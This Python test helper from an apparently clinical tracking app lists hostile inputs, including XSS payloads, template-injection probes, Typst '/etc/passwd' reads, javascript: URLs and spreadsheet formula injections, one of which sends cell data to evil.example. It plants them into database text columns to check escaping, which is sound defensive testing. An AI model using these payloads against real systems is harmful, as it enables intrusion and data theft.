"""Texts that somebody hostile might type, and where they are put."""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from sqlalchemy import JSON, Column, String, Table, select, update
from sqlalchemy.exc import IntegrityError

from ipt_tracker.persistence.base import CODE, Base
from ipt_tracker.persistence.engine import Database
from tests.factories.canaries import BESIDE_ANOTHER, GOES_WITH

IN_PAGES = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    '"><script>alert(3)</script>',
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<math><mi xlink:href='javascript:alert(7)'>x</mi></math>",
    "<iframe src=javascript:alert(8)></iframe>",
    "<object data=javascript:alert(9)></object>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><input name=password></form>",
    "<style>*{display:none}</style>",
    "<a href='javascript:alert(10)'>here</a>",
    "<body onload=alert(11)>",
    "<details open ontoggle=alert(12)>",
    "<input autofocus onfocus=alert(13)>",
    '" onmouseover="alert(14)',
    "' onmouseover='alert(15)",
    '" autofocus onfocus="alert(16)" x="',
    "` onmouseover=`alert(17)",
    "</textarea><script>alert(18)</script>",
    "</title><script>alert(19)</script>",
    "</option></select><script>alert(20)</script>",
    "</td></tr></table><script>alert(21)</script>",
    "<!--><script>alert(22)</script>-->",
    "<![CDATA[<script>alert(23)</script>]]>",
    "<plaintext>",
    "<noscript><p title='</noscript><script>alert(24)</script>'>",
    "&lt;script&gt;alert(25)&lt;/script&gt;",
    "&#60;script&#62;alert(26)&#60;/script&#62;",
    "%3Cscript%3Ealert(27)%3C/script%3E",
    "\\u003cscript\\u003ealert(28)\\u003c/script\\u003e",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(29)",
)
"""Text that becomes an element or an attribute where a page does not escape it."""
IN_TEMPLATES = (
    "{{7777*7777}}",
    "{% raw %}{{7777*7777}}{% endraw %}",
    "${7777*7777}",
    "#{7777*7777}",
    "<%= 7777*7777 %>",
    "{{config.items()}}",
    "{{''.__class__.__mro__}}",
    "%(secret)s {0.__class__} %n%s%x",
)
"""Text that a template, or a format string, would work out."""
WORKED_OUT = str(7777 * 7777)
IN_TYPST = (
    '#read("/etc/passwd")',
    '#import "@preview/x:0.1.0": *',
    "#(7777*7777)",
    "$ sum_(k=1)^n k $",
    '#image("/etc/passwd")',
    "= A heading *strong* _soft_ `raw` <label> @reference",
    "\\u{41} ~ -- --- // comment /* comment */",
    '")#read("/etc/passwd")("',
)
"""Text that the typesetter would work out if it were taken for its language."""
EVERYTHING = " ".join(IN_PAGES + IN_TEMPLATES + IN_TYPST)
AS_ADDRESSES = (
    "javascript:alert(30)",
    "JaVaScRiPt:alert(31)",
    "java\tscript:alert(32)",
    "data:text/html,<script>alert(33)</script>",
    "vbscript:msgbox(34)",
    "//evil.example/",
    "https://evil.example/",
)
"""Text that does harm where it alone becomes the address of a link."""
FORMULAS = (
    "=7777*7777",
    "+7777*7777",
    "-7777*7777",
    "@SUM(7777)",
    "\t=7777*7777",
    "\r=7777*7777",
    "  =7777*7777",
    "\N{FULLWIDTH EQUALS SIGN}7777*7777",
    "\N{FULLWIDTH PLUS SIGN}7777*7777",
    "\N{FULLWIDTH HYPHEN-MINUS}7777*7777",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(7777)",
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "=cmd|' /C calc'!A0",
)
"""Text that a spreadsheet would work out."""

NOT_WORDS = {
    "account": "the e-mail, the role and the hash of a password; the name is typed by the test",
    "audit_entry": "append-only, and written by the program alone, without anybody's words",
    "clinic_setting": "names and values from fixed lists",
    "draft": "an address of ours; its words come back into the forms, where they are typed too",
    "sign_in": "digests, an address of the network, and what the browser calls itself",
    "throttle": "kinds and digests",
    "second_factor": "sealed bytes",
    "recovery_code": "digests",
    "access_code": "a kind and digests",
}
"""Tables whose texts nobody types as words, and why."""
NAMES = {
    "amendment.field": "the name of a field",
    "rating_amendment.field": "the name of a field",
    "evidence_change.field": "the name of a field",
    "imported_case.case_id": "the name under which a course came",
    "imported_case.content": "the JSON of a file, kept for later and shown nowhere",
    "course.case_id": "the name under which a course came",
    "portfolio_text.body": "the name of an accrediting body, from a fixed list",
    "medication_change.change": "a word from a fixed list",
    "life_event.exactness": "day, month or year",
    "evidence_trial.certainty": "a word from a fixed list",
    "report_batch.kind": "a word from a fixed list",
    "score_import.status": "a word from a fixed list",
    "score_import.digest": "a digest",
    "score_import.content": "the JSON of a table that waits, which the program reads back",
}
"""Columns of text that hold a name of the program, and which."""
PLACES_IN_JSON = {"worksheet.content": None, "course.extra": "k", "patient.demographics": "k"}
"""Columns of JSON that hold words, some with a key under which they may stand."""


@dataclass(frozen=True, slots=True)
class Planted:
    """One text that was put into one column: where, and what."""

    column: str
    mark: str
    text: str


def words_of(table: Table) -> Iterator[Column[Any]]:
    """Give the columns of a table into which somebody types words."""
    for column in table.columns:
        named = f"{table.name}.{column.name}" in NAMES
        if isinstance(column.type, String) and column.type is not CODE and not named:
            yield column


def tables() -> Iterator[Table]:
    """Give the tables that hold words."""
    for table in Base.metadata.sorted_tables:
        if table.name not in NOT_WORDS and list(words_of(table)):
            yield table


def plant(database: Database, *texts: str) -> list[Planted]:
    """Put a text into every place for words of every row, each with a mark of its own after it.

    Of several texts, one place gets the first, the next the second and so on.
    """
    made: list[Planted] = []
    with database.write() as session, session.begin():
        for table in tables():
            for row in session.execute(select(table)).mappings().all():
                _fill(session, table, row, made, texts)
    return made


def _fill(
    session: Any, table: Table, row: Any, made: list[Planted], texts: tuple[str, ...]
) -> None:
    """Fill the row's empty places too, unless that says what the rest of the row does not."""
    here = [column == row[column.name] for column in table.primary_key]
    places = list(words_of(table))
    alone = [c for c in places if f"{table.name}.{c.name}" not in BESIDE_ANOTHER]
    filled = [c for c in places if row[c.name] is not None]
    for columns in filter(None, (places, alone, filled)):
        values = {c.name: _marked(made, f"{table.name}.{c.name}", texts) for c in columns}
        values |= _in_json(made, table, row, texts) | GOES_WITH.get(table.name, {})
        try:
            with session.begin_nested():
                session.execute(update(table).where(*here).values(values))
        except IntegrityError:
            continue
        return


def _in_json(made: list[Planted], table: Table, row: Any, texts: tuple[str, ...]) -> dict[str, Any]:
    """Put the text in place of the words that stand in JSON, and under a key where there may be."""
    found = {}
    for column in table.columns:
        place = f"{table.name}.{column.name}"
        if isinstance(column.type, JSON) and place in PLACES_IN_JSON:
            key, whole = PLACES_IN_JSON[place], row[column.name] or {}
            kept = {k: _instead(made, place, v, texts) for k, v in whole.items()}
            more = {key: _marked(made, place, texts)} if key else {}
            found[column.name] = kept | more
    return found


def _instead(made: list[Planted], place: str, value: Any, texts: tuple[str, ...]) -> Any:
    if isinstance(value, list):
        return [_instead(made, place, each, texts) for each in value]
    is_words = isinstance(value, str) and " " in value  # a code has no space
    return _marked(made, place, texts) if is_words else value


def _marked(made: list[Planted], column: str, texts: tuple[str, ...]) -> str:
    text = texts[len(made) % len(texts)]
    mark = f"q{len(made):05d}q"
    made.append(Planted(column, mark, f"{text} {mark}"))
    return made[-1].text
